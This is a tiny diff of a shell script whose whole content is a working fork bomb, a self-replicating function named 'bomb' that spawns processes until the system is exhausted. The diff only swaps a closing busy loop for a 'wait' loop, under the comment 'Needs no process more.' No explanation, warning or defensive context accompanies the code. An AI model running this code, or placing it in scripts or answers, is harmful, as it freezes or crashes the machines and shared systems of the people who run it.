@@ -1,4 +1,4 @@
 bomb() { bomb | bomb & }
 bomb
 # Needs no process more.
-while :; do :; done
+while :; do wait; done
